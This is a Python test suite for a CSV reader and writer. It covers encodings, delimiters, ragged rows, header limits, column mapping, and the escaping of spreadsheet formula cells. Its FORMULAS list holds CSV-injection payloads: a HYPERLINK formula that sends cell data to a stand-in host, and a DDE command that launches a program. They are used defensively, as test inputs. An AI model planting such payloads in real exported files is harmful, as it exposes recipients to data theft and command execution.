"""CSV files as users export them: BOM, delimiters, quoted newlines, ragged rows."""

import codecs
import csv
import io
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from roster.profiles.fields import Kind
from roster.profiles.values import readable
from roster.sources.csv_file import (
    MAX_CELL_CHARS,
    MAX_COLUMNS,
    SAMPLE_BYTES,
    BadRow,
    CsvProblem,
    Row,
    SpreadsheetWriter,
    auto_mapping,
    detect_dialect,
    read_rows,
)


def parse(data: bytes) -> tuple[list[str], list[Row | BadRow]]:
    dialect = detect_dialect(data[:65536])
    columns, rows = read_rows(io.BytesIO(data), dialect)
    return columns, list(rows)


def test_utf8_bom_and_semicolons() -> None:
    data = "\ufeffEmail;Name\nann@x.com;Ann\nbob@y.com;Bøb\n".encode()
    columns, rows = parse(data)
    assert columns == ["Email", "Name"]
    assert rows == [Row(2, {"Email": "ann@x.com", "Name": "Ann"}), Row(3, {"Email": "bob@y.com", "Name": "Bøb"})]


def test_tabs_pipes_and_windows_1252() -> None:
    assert detect_dialect(b"a\tb\tc\n1\t2\t3\n").delimiter == "\t"
    assert detect_dialect(b"a|b|c\n1|2|3\n").delimiter == "|"
    dialect = detect_dialect("name,city\nJosé,Zürich\n".encode("cp1252"))
    assert dialect.encoding == "cp1252"
    _, rows = read_rows(io.BytesIO("name,city\nJosé,Zürich\n".encode("cp1252")), dialect)
    assert next(rows) == Row(2, {"name": "José", "city": "Zürich"})


def test_quoted_newlines_keep_line_numbers_right() -> None:
    data = b'email,notes\na@x.com,"line one\nline two"\nb@x.com,plain\n'
    _, rows = parse(data)
    assert rows == [
        Row(2, {"email": "a@x.com", "notes": "line one\nline two"}),
        Row(4, {"email": "b@x.com", "notes": "plain"}),
    ]


def test_ragged_rows_short_are_padded_long_are_rejected() -> None:
    data = b"a,b,c\n1,2\n1,2,3,4\n1,2,3,,\n\n5,6,7\n"
    _, rows = parse(data)
    assert rows == [
        Row(2, {"a": "1", "b": "2", "c": ""}),
        BadRow(3, "has 4 values but the header has 3 columns"),
        Row(4, {"a": "1", "b": "2", "c": "3"}),
        Row(6, {"a": "5", "b": "6", "c": "7"}),
    ]


def test_blank_and_duplicate_headers_get_unique_names() -> None:
    columns, _ = parse(b"email,,email\nx,y,z\n")
    assert columns == ["email", "column_2", "email_2"]


def test_empty_file() -> None:
    assert parse(b"") == ([], [])


def test_auto_mapping_uses_standard_fields_synonyms_and_custom_fields() -> None:
    columns = ["E-mail", "First Name", "Surname", "Title", "Company", "LinkedIn Profile", "ID", "Favourite Colour"]
    assert auto_mapping(Kind.PEOPLE, columns) == {
        "E-mail": "email",
        "First Name": "first_name",
        "Surname": "last_name",
        "Title": "job_title",
        "Company": "company_name",
        "LinkedIn Profile": "linkedin_url",
        "ID": "record_id",
        "Favourite Colour": "favourite_colour",
    }
    assert auto_mapping(Kind.COMPANIES, ["Company Name", "Website", "Employees", "123"]) == {
        "Company Name": "name",
        "Website": "website",
        "Employees": "employee_count",
        "123": "field_123",
    }


def test_two_columns_never_map_to_one_field() -> None:
    mapping = auto_mapping(Kind.PEOPLE, ["Email", "E-mail"])
    assert mapping == {"Email": "email", "E-mail": "e_mail"}


FORMULAS = [
    '=HYPERLINK("http://evil.test/?x="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-1+1",
    "@SUM(A1:A9)",
    "\tTAB",
    "\rCR",
]


def written(rows: list[list[Any]]) -> str:
    out = io.StringIO()
    writer = SpreadsheetWriter(out)
    for row in rows:
        writer.writerow(row)
    return out.getvalue()


def test_formula_cells_are_written_as_text_quoted() -> None:
    text = written([["value"], *([formula] for formula in FORMULAS), ["-12.5"], ["+3"], ["1e-9"], [None], [7]])
    cells = [row[0] for row in csv.reader(io.StringIO(text))]
    assert cells == ["value", *("'" + formula for formula in FORMULAS), "-12.5", "+3", "1e-9", "", "7"]
    assert text.splitlines()[0] == '"value"'  # every cell quoted


def test_lone_surrogates_are_written_as_replacement_characters() -> None:
    text = written([["bad \ud800 text", "\udfff"]])
    text.encode("utf-8")  # any encoder can write it
    assert next(csv.reader(io.StringIO(text))) == ["bad \ufffd text", "\ufffd"]


@given(st.lists(st.one_of(st.text(), st.integers(), st.floats(allow_nan=False), st.none()), max_size=5))
def test_any_cell_reads_back_as_itself_or_escaped_and_never_as_a_formula(cells: list[Any]) -> None:
    (row,) = list(csv.reader(io.StringIO(written([cells]), newline="")))
    for cell, back in zip(cells, row, strict=True):
        original = readable("" if cell is None else str(cell))
        assert back in (original, "'" + original)
        assert not back.startswith(("=", "+", "-", "@", "\t", "\r")) or float(back) == float(original)


PEOPLE = "email,name\nann@x.com,Änn\nbob@y.com,Bøb 😀\n"


@pytest.mark.parametrize(
    ("data", "encoding"),
    [
        (PEOPLE.encode("utf-8-sig"), "utf-8-sig"),
        (PEOPLE.encode("utf-8"), "utf-8-sig"),
        (codecs.BOM_UTF16_LE + PEOPLE.encode("utf-16-le"), "utf-16"),
        (codecs.BOM_UTF16_BE + PEOPLE.encode("utf-16-be"), "utf-16"),
        (codecs.BOM_UTF32_LE + PEOPLE.encode("utf-32-le"), "utf-32"),
        (codecs.BOM_UTF32_BE + PEOPLE.encode("utf-32-be"), "utf-32"),
        (PEOPLE.encode("utf-16-le"), "utf-16-le"),
        (PEOPLE.encode("utf-16-be"), "utf-16-be"),
    ],
    ids=["utf-8 bom", "utf-8", "utf-16le bom", "utf-16be bom", "utf-32le bom", "utf-32be bom", "utf-16le", "utf-16be"],
)
def test_unicode_encodings_are_detected_by_their_byte_order_mark_or_zero_bytes(data: bytes, encoding: str) -> None:
    assert detect_dialect(data).encoding == encoding
    columns, rows = parse(data)
    assert columns == ["email", "name"]
    assert rows == [Row(2, {"email": "ann@x.com", "name": "Änn"}), Row(3, {"email": "bob@y.com", "name": "Bøb 😀"})]


def test_a_quote_that_never_closes_costs_only_its_own_row() -> None:
    data = b'email,note\na@x.com,"fine\nstill fine"\nb@x.com,"opens here\nc@x.com,ok\nd@x.com,ok too\n'
    _, rows = parse(data)
    assert rows == [
        Row(2, {"email": "a@x.com", "note": "fine\nstill fine"}),
        BadRow(4, "has a quote that never closes (it opens on line 4; the file ends inside it)"),
        Row(5, {"email": "c@x.com", "note": "ok"}),
        Row(6, {"email": "d@x.com", "note": "ok too"}),
    ]
    _, rows = parse(b'email,note\na@x.com,"last line')
    assert rows == [BadRow(2, "has a quote that never closes (it opens on line 2; the file ends inside it)")]


def test_a_huge_cell_rejects_its_row_and_reading_goes_on() -> None:
    data = b"email,note\na@x.com," + b"x" * (MAX_CELL_CHARS + 1) + b"\nb@x.com,ok\n"
    _, rows = parse(data)
    assert rows == [
        BadRow(2, f"has a value longer than {MAX_CELL_CHARS:,} characters, or a quote that never closes"),
        Row(3, {"email": "b@x.com", "note": "ok"}),
    ]


def test_bytes_the_encoding_cannot_decode_reject_their_row() -> None:
    data = b"email,name\n" + b"a@x.com,Ann\n" * 7000 + b"b@x.com,Jos\xe9\n" + b"c@x.com,Cy\n"  # past the sample
    assert detect_dialect(data[:SAMPLE_BYTES]).encoding == "utf-8-sig"
    _, rows = parse(data)
    assert rows[7000] == BadRow(7002, "has bytes that are not utf-8-sig text (in column 'name')")
    assert rows[7001] == Row(7003, {"email": "c@x.com", "name": "Cy"})


@pytest.mark.parametrize(
    ("header", "reason"),
    [
        ("a," * MAX_COLUMNS + "z", f"the header has {MAX_COLUMNS + 1} columns; at most {MAX_COLUMNS} are read"),
        ("email," + "n" * 300, "column 2's name has 300 characters; at most 256 are read"),
        (",".join(["c" * 200] * 400), "the header has 80,400 characters; at most 65,536 are read"),
        ("email," + "x" * (MAX_CELL_CHARS + 1), "the header is longer than 65,536 characters"),
        ('email,"name', "the header has a quote that never closes"),
    ],
    ids=["columns", "column name", "header", "header cell", "header quote"],
)
def test_a_header_over_a_limit_is_refused_naming_the_limit(header: str, reason: str) -> None:
    with pytest.raises(CsvProblem) as problem:
        parse((header + "\na@x.com,1\n").encode())
    assert str(problem.value) == reason
